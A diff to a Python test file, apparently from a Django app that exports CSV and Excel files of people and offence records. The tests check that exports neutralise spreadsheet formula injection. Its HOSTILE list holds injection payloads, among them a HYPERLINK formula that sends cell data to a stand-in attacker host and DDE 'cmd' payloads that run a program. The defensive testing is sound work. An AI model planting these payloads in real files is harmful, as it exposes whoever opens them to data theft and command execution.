@@ -34,16 +34,24 @@ from tests.app.builders import TODAY
 
 pytestmark = [pytest.mark.django_db, pytest.mark.postgres]
 
-HOSTILE = ['=HYPERLINK("http://attacker.invalid/?d="&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0",
-           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://attacker.invalid/?d="&A1,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|'/C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 PLAIN_NUMBER = re.compile(r"[-+]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?")
 # Every URL that answers with a CSV or Excel file, and every module that writes one. A new export must be
 # added here (and use desist.core.cells), or test_every_export_is_walked fails.
 EXPORT_URLS = {"board_export", "families_overlap", "import_problems_csv"}
 WRITERS = {"board/views.py", "families/views.py", "imports/services.py", "core/linkage/command.py"}
-NOT_FOR_SPREADSHEETS = {"core/basket/inputs.py": "hashes its own CSV text, never written out",
-                        "demo/extracts.py": "hands generated extracts to the importer in memory, never written out",
-                        "core/synth/writer.py": "writes generated synthetic tables only"}
+NOT_FOR_SPREADSHEETS = {
+    "core/basket/inputs.py": "hashes its own CSV text, never written out",
+    "demo/extracts.py": "hands generated extracts to the importer in memory, never written out",
+    "core/synth/writer.py": "writes generated synthetic tables only",
+}
 
 
 def assert_no_formula(rows: list[list[Any]], where: str) -> int:
@@ -69,17 +77,37 @@ def hostile(partnership) -> Any:
     quarter = board_selectors.latest_quarter()
     coordinator = partnership.user("cara.coordinator", partnership.housing, role="coordinator")
     analyst = partnership.user("ana.analyst", partnership.housing, Role.ANALYST)
-    members = [builders.person(first_name=first, last_name=last, district=partnership.medway,
-                               involved=[(partnership.housing, None)])
-               for first, last in zip(HOSTILE, reversed(HOSTILE), strict=True)]
+    members = [
+        builders.person(
+            first_name=first,
+            last_name=last,
+            district=partnership.medway,
+            involved=[(partnership.housing, None)],
+        )
+        for first, last in zip(HOSTILE, reversed(HOSTILE), strict=True)
+    ]
     for member in members:
-        people.address_add(actor=system_actor(), person=member, line1="12 Rope Walk", town="Chatham",
-                           postcode="ME4 4AA", from_date=TODAY - timedelta(days=900),
-                           district_id=partnership.medway.pk)
+        people.address_add(
+            actor=system_actor(),
+            person=member,
+            line1="12 Rope Walk",
+            town="Chatham",
+            postcode="ME4 4AA",
+            from_date=TODAY - timedelta(days=900),
+            district_id=partnership.medway.pk,
+        )
         day = quarter.start + timedelta(days=5)
-        offences.offence_record(actor=system_actor(), person=member, offence_code="04600", offence_date=day,
-                                outcome="caution", outcome_date=day)
-    people.relationship_record(actor=system_actor(), person=members[1], related_person=members[0], kind="parent")
+        offences.offence_record(
+            actor=system_actor(),
+            person=member,
+            offence_code="04600",
+            offence_date=day,
+            outcome="caution",
+            outcome_date=day,
+        )
+    people.relationship_record(
+        actor=system_actor(), person=members[1], related_person=members[0], kind="parent"
+    )
     families_refresh(actor=system_actor())
     board_selectors.live_basket_forget()
     yield SimpleNamespace(coordinator=coordinator, analyst=analyst, members=members)
@@ -119,10 +147,18 @@ def test_the_import_problems_file_neutralises_hostile_columns_and_values(partner
     rows = [[HOSTILE[2], HOSTILE[3], "x"], ["H2", "", "1990-01-02"]]
     out = io.StringIO()
     csv.writer(out).writerows([header, *rows])
-    mapping = imports.mapping_save(actor=builders.actor(), agency=partnership.housing, record_id_column="Client ID",
-                                   date_format="auto", columns={"Surname": "last_name", HOSTILE[1]: "date_of_birth"})
-    report = imports.import_validate(agency=partnership.housing, mapping=mapping,
-                                     file=ExtractFile(name="housing.csv", content=out.getvalue().encode()))
+    mapping = imports.mapping_save(
+        actor=builders.actor(),
+        agency=partnership.housing,
+        record_id_column="Client ID",
+        date_format="auto",
+        columns={"Surname": "last_name", HOSTILE[1]: "date_of_birth"},
+    )
+    report = imports.import_validate(
+        agency=partnership.housing,
+        mapping=mapping,
+        file=ExtractFile(name="housing.csv", content=out.getvalue().encode()),
+    )
     assert report.problems
     problems = read_csv(report.problems_csv().encode())
     assert problems[0] == ["row", "column", "problem"]
@@ -133,11 +169,26 @@ def test_the_import_problems_file_neutralises_hostile_columns_and_values(partner
 def test_desist_link_output_files_neutralise_hostile_record_ids(tmp_path: Path):
     ids = HOSTILE[:2]
     result = SimpleNamespace(
-        assignments=pa.table({"source": ["police", "housing"], "record_id": ids, "person_id": [1, 1],
-                              "match_weight": [12.5, None], "outcome": ["linked", "linked"]}),
-        review_pairs=[SimpleNamespace(left=("police", HOSTILE[2]), right=("housing", HOSTILE[3]), match_weight=-1.25,
-                                      left_person_id=1, right_person_id=2,
-                                      agreement={"first_name": SimpleNamespace(level="=1+1")})])
+        assignments=pa.table(
+            {
+                "source": ["police", "housing"],
+                "record_id": ids,
+                "person_id": [1, 1],
+                "match_weight": [12.5, None],
+                "outcome": ["linked", "linked"],
+            }
+        ),
+        review_pairs=[
+            SimpleNamespace(
+                left=("police", HOSTILE[2]),
+                right=("housing", HOSTILE[3]),
+                match_weight=-1.25,
+                left_person_id=1,
+                right_person_id=2,
+                agreement={"first_name": SimpleNamespace(level="=1+1")},
+            )
+        ],
+    )
     write_links(result, tmp_path / "links.csv")
     write_review(result, tmp_path / "review.csv")
     links = read_csv((tmp_path / "links.csv").read_bytes())
